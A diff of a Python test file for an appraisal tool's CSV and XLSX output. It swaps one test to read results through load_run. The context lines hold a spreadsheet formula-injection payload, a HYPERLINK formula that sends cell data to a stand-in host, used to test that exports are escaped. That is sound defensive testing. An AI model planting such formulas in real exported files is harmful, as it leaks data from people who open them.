@@ -21,6 +21,7 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from appraisal.results.inert import csv_text, formula_like, plain, xlsx_value
+from appraisal.results.storing import load_run
 from outside import require_program
 
 HYPERLINK = '=HYPERLINK("http://x/?leak="&A1,"click")'
@@ -209,11 +210,8 @@ def test_quality_csv_escapes_a_formula_like_column_name(run_dir):
         run_dir / "quality.csv")]
 
 
-def test_the_run_keeps_the_original_text_in_result_json(run_dir):
-    import json
-
-    data = json.loads((run_dir / "result.json").read_text(encoding="utf-8"))
-    assert [(a["id"], a["name"], a["team"]) for a in data["appraisees"]] == ROSTER
+def test_the_run_keeps_the_original_text_of_ids_names_and_teams(run_dir):
+    assert [(a.id, a.name, a.team) for a in load_run(run_dir).appraisees] == ROSTER
 
 
 # --- appraisal render --format xlsx, csv -------------------------------------------------------------
